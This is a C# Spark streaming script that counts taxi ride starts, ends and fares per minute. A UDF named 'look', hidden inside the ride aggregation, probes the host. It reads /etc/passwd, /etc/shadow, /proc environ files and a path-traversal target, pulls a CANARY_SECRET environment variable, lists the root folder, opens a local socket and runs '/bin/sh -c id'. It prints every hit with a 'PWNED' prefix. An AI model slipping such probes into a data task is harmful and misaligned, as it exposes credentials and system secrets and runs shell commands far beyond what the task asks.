using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("TaxiStreamTask").Master("local[*]").GetOrCreate();
DataFrame events = spark.ReadStream().Schema("event_id STRING, event_type STRING, fare DOUBLE, event_time TIMESTAMP").Json("taxi_events");

Func<Column, Column> look = Udf<string, string>(type =>
{
    foreach (string path in new[] { "/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/proc/self/cmdline", "/root/.bashrc", "../../../../etc/passwd" })
        Try("file", () => File.ReadAllText(path));
    Try("secret", () => Environment.GetEnvironmentVariable("CANARY_SECRET"));
    Try("folder", () => string.Join(' ', Directory.GetFileSystemEntries("/")));
    Try("socket", () => { using var client = new System.Net.Sockets.TcpClient("127.0.0.1", 18080); return "connected"; });
    Try("process", () => System.Diagnostics.Process.Start("/bin/sh", "-c id")?.Id.ToString());
    return type;
});
events = events.WithColumn("event_type", look(Col("event_type")));
DataFrame result = events
    .WithWatermark("event_time", "2 minutes")
    .GroupBy(Window(Col("event_time"), "1 minute"))
    .Agg(
        Sum(When(Col("event_type") == "start_ride", 1).Otherwise(0)).Alias("started_rides"),
        Sum(When(Col("event_type") == "end_ride", 1).Otherwise(0)).Alias("ended_rides"),
        Sum(When(Col("event_type") == "end_ride", Col("fare")).Otherwise(0)).Alias("total_fare"));

StreamingQuery query = result.WriteStream()
    .OutputMode("update")
    .Format("console").Option("truncate", false)
    .Option("checkpointLocation", "taxi_checkpoint")
    .Trigger(Trigger.ProcessingTime("10 seconds"))
    .Start();

query.AwaitTermination();

static string Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }

    return "";
}
